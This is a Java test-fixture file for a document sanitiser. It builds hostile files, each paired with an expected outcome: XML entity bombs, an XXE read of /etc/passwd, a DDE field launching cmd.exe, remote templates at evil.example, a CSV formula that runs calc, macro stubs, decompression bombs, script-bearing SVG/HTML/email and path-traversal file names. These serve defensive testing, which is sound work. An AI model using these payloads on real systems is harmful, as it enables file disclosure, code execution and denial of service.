package org.gravamen.safecopy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;

import static org.gravamen.safecopy.ActiveContent.DDE;
import static org.gravamen.safecopy.ActiveContent.EMBEDDED_FILE;
import static org.gravamen.safecopy.ActiveContent.MACROS;
import static org.gravamen.safecopy.ActiveContent.MARKUP;
import static org.gravamen.safecopy.ActiveContent.REMOTE_CONTENT;
import static org.gravamen.safecopy.ActiveContent.REMOTE_TEMPLATE;
import static org.gravamen.safecopy.CopyOutcome.MADE;
import static org.gravamen.safecopy.CopyOutcome.SEALED;
import static org.gravamen.safecopy.CopyOutcome.TOO_MANY_PAGES;
import static org.gravamen.safecopy.CopyOutcome.UNREADABLE;
import static org.gravamen.safecopy.Harmless.docx;
import static org.gravamen.safecopy.Harmless.utf8;
import static org.gravamen.safecopy.HostileArchives.joined;

/**
 * Files that are taken in, and do something when they are opened.
 */
final class HostileDocuments {

	private HostileDocuments() {
	}

	static Stream<Hostile> all() {
		return Stream.of(word(), office(), pictures(), texts(), names()).flatMap(List::stream);
	}

	private static List<Hostile> word() {
		return List.of(Hostile.taken("billion laughs in a Word file", "a.docx", () -> wordWith(laughs()), UNREADABLE),
				Hostile.taken("an outside entity in a Word file", "a.docx",
						() -> wordWith("<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>"),
						UNREADABLE),
				Hostile.taken("XML that breaks off", "a.docx", () -> wordWith("<d><p>"), UNREADABLE),
				Hostile.taken("XML 5,000 deep", "a.docx", () -> docx("<p>".repeat(5000) + "</p>".repeat(5000)),
						UNREADABLE),
				Hostile.taken("macros in a Word file", "a.docm",
						() -> docx("", Map.of("word/vbaProject.bin", utf8("Sub AutoOpen"))), MADE, MACROS),
				Hostile.taken("macros in a Word file that has none by name", "a.docx",
						() -> docx("", Map.of("word/vbaProject.bin", utf8("Sub AutoOpen"))), MADE, MACROS),
				Hostile.taken("DDE in a Word file", "a.docx",
						() -> docx("<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k\" </w:instrText></w:r>"),
						MADE, DDE),
				Hostile.taken("DDE in a simple field", "a.docx",
						() -> docx("<w:fldSimple w:instr=\"DDE excel a b\"></w:fldSimple>"), MADE, DDE),
				Hostile.taken("a template from elsewhere", "a.docx",
						() -> docx("", relation("attachedTemplate", "http://evil.example/a.dotm")), MADE,
						REMOTE_TEMPLATE),
				Hostile.taken("a picture from elsewhere", "a.docx",
						() -> docx("", relation("image", "http://evil.example/seen.png")), MADE, REMOTE_CONTENT),
				Hostile.taken("a file in a Word file", "a.docx",
						() -> docx("", Map.of("word/embeddings/oleObject1.bin", utf8("MZ"))), MADE, EMBEDDED_FILE));
	}

	private static List<Hostile> office() {
		return List.of(
				Hostile.taken("macros in a table", "a.xlsm",
						() -> Harmless.zip(Map.of("[Content_Types].xml", utf8("<Types/>"), "xl/workbook.xml",
								utf8("<w/>"), "xl/vbaProject.bin", utf8("Sub"))),
						SEALED, MACROS),
				Hostile.taken("macros in an old Word file", "a.doc", HostileDocuments::oldWord, SEALED, MACROS),
				Hostile.taken("DDE in an old table", "a.xls", () -> joined(oldWord(), utf8("DDEAUTO")), SEALED, DDE),
				Hostile.taken("an object in rich text", "a.rtf", () -> utf8("{\\rtf1{\\object{\\*\\objdata 0105}}}"),
						SEALED, EMBEDDED_FILE),
				Hostile.taken("a template in rich text", "a.rtf",
						() -> utf8("{\\rtf1{\\*\\template http://evil.example}}"), SEALED, REMOTE_TEMPLATE));
	}

	private static List<Hostile> pictures() {
		byte[] bomb = deflated(new byte[100 << 20]);
		return List.of(
				Hostile.taken("a text bomb in a PNG", "a.png",
						() -> painted(HostileDisguises.chunk("zTXt", joined(utf8("Comment\0\0"), bomb))), MADE),
				Hostile.taken("a profile bomb in a PNG", "a.png",
						() -> painted(HostileDisguises.chunk("iCCP", joined(utf8("x\0\0"), bomb))), MADE),
				Hostile.taken("a PNG with pixels for more than it has", "a.png",
						() -> HostileDisguises.png(4, 4, HostileDisguises.chunk("IDAT", bomb)), MADE),
				Hostile.taken("a PNG without pixels", "a.png", () -> HostileDisguises.png(400, 400), UNREADABLE),
				Hostile.taken("a photograph cut off", "a.jpg",
						() -> Arrays.copyOf(Harmless.picture("jpeg", 200, 200), 700), MADE),
				Hostile.taken("a film that is only its beginning", "a.mp4",
						() -> joined(HexFormat.of().parseHex("0000001866747970"), utf8("isom\0\0\2\0isommp41"),
								HexFormat.of().parseHex("7fffffff6d6f6f76")),
						SEALED));
	}

	private static List<Hostile> texts() {
		return List.of(
				Hostile.taken("a page with a script", "a.html", () -> utf8("<html><script>alert(1)</script></html>"),
						MADE, MARKUP),
				Hostile.taken("a drawing with a script", "a.svg", () -> utf8(
						"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><image href=\"file:///etc/passwd\"/></svg>"),
						MADE, MARKUP),
				Hostile.taken("a text that turns round", "a.txt",
						() -> utf8("The guard \u202E\u2066said nothing\u200B."), MADE),
				Hostile.taken("a text with a page further on", "a.txt", () -> utf8("Words.\n<script>alert(1)</script>"),
						MADE, MARKUP),
				Hostile.taken("a message with a script", "a.eml",
						() -> utf8(
								"From: a@b.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>Words"),
						MADE, MARKUP),
				Hostile.taken("a table that calls a program", "a.csv", () -> utf8("=cmd|' /C calc'!A0,1\n"), MADE),
				Hostile.taken("a text of 12 MB in a line", "a.txt", () -> utf8("a ".repeat(6 << 20)), TOO_MANY_PAGES),
				Hostile.taken("a message in a message, 5,000 deep", "a.eml", HostileDocuments::deepMessage, UNREADABLE),
				Hostile.taken("a message from nobody", "a.eml", () -> utf8("Subject: x\r\nReceived: y\r\n\r\nz"),
						UNREADABLE));
	}

	private static List<Hostile> names() {
		Supplier<byte[]> pdf = () -> Harmless.pdf(1);
		return List.of(Hostile.taken("a name that climbs", "../../etc/x.pdf", pdf, MADE),
				Hostile.taken("a name that Windows keeps for itself", "CON.pdf", () -> Harmless.pdf(2), MADE),
				Hostile.taken("a name with an escaped NUL", "a%00.exe.pdf", () -> Harmless.pdf(3), MADE),
				Hostile.taken("a name of 4 KB", "x".repeat(4092) + ".pdf", () -> Harmless.pdf(4), MADE),
				Hostile.taken("a name that turns round", "report\u202Efdp.pdf", () -> Harmless.pdf(5), MADE));
	}

	static byte[] oldWord() {
		return joined(HexFormat.of().parseHex("d0cf11e0a1b11ae1"), new byte[1016],
				"_VBA_PROJECT".getBytes(StandardCharsets.UTF_16LE), new byte[1000]);
	}

	private static byte[] wordWith(String document) {
		return docx("", Map.of("word/document.xml", utf8(document)));
	}

	private static String laughs() {
		StringBuilder laughs = new StringBuilder("<!DOCTYPE d [<!ENTITY l0 \"lol\">");
		for (int i = 1; i < 30; i++) {
			laughs.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
		}
		return laughs.append("]><d>&l29;</d>").toString();
	}

	private static Map<String, byte[]> relation(String type, String target) {
		return Map.of("word/_rels/document.xml.rels",
				utf8("<Relationships><Relationship Id=\"r1\" TargetMode=\"External\" Type=\"http://x.example/" + type
						+ "\" Target=\"" + target + "\"/></Relationships>"));
	}

	private static byte[] painted(byte[] chunk) {
		return HostileDisguises.png(4, 4, chunk, HostileDisguises.chunk("IDAT", deflated(new byte[4 * 13])));
	}

	static byte[] hugePhotograph() {
		byte[] photograph = Harmless.picture("jpeg", 16, 16);
		for (int i = 0; i < photograph.length - 8; i++) {
			if ((photograph[i] & 0xFF) == 0xFF && (photograph[i + 1] & 0xFF) == 0xC0) {
				for (int at = i + 5; at < i + 9; at += 2) {
					photograph[at] = 0x75;
					photograph[at + 1] = 0x30;
				}
				return photograph;
			}
		}
		throw new IllegalStateException("The photograph has no frame.");
	}

	private static byte[] deepMessage() {
		StringBuilder message = new StringBuilder("From: a@b.example\r\nMIME-Version: 1.0\r\n");
		for (int i = 0; i < 5000; i++) {
			message.append("Content-Type: multipart/mixed; boundary=b")
				.append(i)
				.append("\r\n\r\n--b")
				.append(i)
				.append("\r\n");
		}
		return utf8(message.append("\r\nend").toString());
	}

	static byte[] deflated(byte[] bytes) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream deflating = new DeflaterOutputStream(out)) {
			deflating.write(bytes);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

}
